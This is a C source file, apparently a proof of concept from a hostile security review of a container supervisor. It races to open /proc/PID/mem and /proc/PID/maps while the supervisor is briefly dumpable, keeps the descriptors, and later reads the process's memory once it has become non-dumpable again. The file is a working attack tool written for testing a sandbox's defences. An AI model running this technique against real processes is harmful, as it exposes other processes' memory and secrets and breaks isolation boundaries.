/*
 * ha67-memwin: hostile review h-attack67. A process of the supervisor's uid,
 * outside its namespaces, opens /proc/PID/mem and /proc/PID/maps of the
 * supervisor while it is dumpable for its id-map writes (contain.c
 * userns_steps) and keeps them; after the run has gone non-dumpable again
 * it reads the supervisor's memory through the kept descriptors (an access
 * checked at open only). Writes nothing.
 *   ha67-memwin SECONDS
 * Prints "held PID" per kept pair and "read PID N bytes at ADDR (dumpable
 * now D)" once the victim is non-dumpable again.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "ha67-common.h"

/* Whether /proc/PID/uid_map opens for writing: the victim is dumpable. */
static int open_now(int p)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/uid_map", p);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	close(fd);
	return 1;
}

int main(int argc, char **argv)
{
	double secs = argc > 1 ? atof(argv[1]) : 10, t0 = now();
	int held_pid[64], mem[64], maps[64], n = 0;

	while (now() - t0 < secs && n < 64) {
		int l = last_pid();

		for (int p = l - 3; p <= l && n < 64; p++) {
			char path[64];
			int dup = 0;

			for (int i = 0; i < n; i++)
				dup |= held_pid[i] == p;
			if (p <= 1 || dup || p == getpid() || !open_now(p))
				continue;
			snprintf(path, sizeof(path), "/proc/%d/mem", p);
			mem[n] = open(path, O_RDONLY | O_CLOEXEC);
			snprintf(path, sizeof(path), "/proc/%d/maps", p);
			maps[n] = open(path, O_RDONLY | O_CLOEXEC);
			if (mem[n] < 0 || maps[n] < 0) {
				if (mem[n] >= 0)
					close(mem[n]);
				if (maps[n] >= 0)
					close(maps[n]);
				continue;
			}
			held_pid[n++] = p;
			printf("held %d\n", p);
			fflush(stdout);
		}
	}
	/* Later: the victims have gone non-dumpable (or exited). */
	sleep(1);
	for (int i = 0; i < n; i++) {
		char buf[65536], path[64], st[4096] = {0};
		unsigned long lo = 0;
		int fd;
		ssize_t r = pread(maps[i], buf, sizeof(buf) - 1, 0);
		const char *dumpable = "?";

		snprintf(path, sizeof(path), "/proc/%d/uid_map", held_pid[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		dumpable = fd >= 0 ? "1" : "0";
		if (fd >= 0)
			close(fd);
		if (r > 0) {
			buf[r] = 0;
			sscanf(buf, "%lx-", &lo);
		}
		r = lo ? pread(mem[i], st, sizeof(st), (off_t)lo) : -1;
		printf("read %d %zd bytes at %#lx (dumpable now %s)\n", held_pid[i], r, lo,
		       dumpable);
	}
	return 0;
}
